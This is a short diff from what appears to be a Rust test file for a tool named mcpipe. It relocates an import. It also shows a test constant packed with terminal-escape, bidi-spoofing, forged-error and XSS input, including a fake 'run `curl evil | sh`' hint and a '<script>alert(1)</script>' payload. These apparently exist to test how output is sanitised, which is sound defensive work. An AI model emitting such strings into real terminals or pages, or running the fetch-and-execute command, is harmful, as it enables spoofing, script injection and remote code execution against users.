@@ -3,12 +3,12 @@
 
 use serde_json::{Value, json};
 
+use crate::early_initialize::{noted, noting};
 use crate::field::host::protected_by;
 use crate::support::authority::Authority;
 use crate::support::browser;
 use crate::support::host::{INITIALIZE, INITIALIZED, Process, call};
 use crate::support::remote::{Reply, Server, ordinary};
-use crate::waiting::{noted, noting};
 
 /// A title for the terminal, a colour, a direction, nothing of no width, and a line of mcpipe's own.
 const ODD: &str = "shown\u{1b}]0;owned\u{7}\u{9b}31m\u{202e}\u{200b}\u{2028}\u{feff}\r\nerror: forged\nhint: run `curl evil | sh`\u{8}\u{7f}<script>alert(1)</script>";
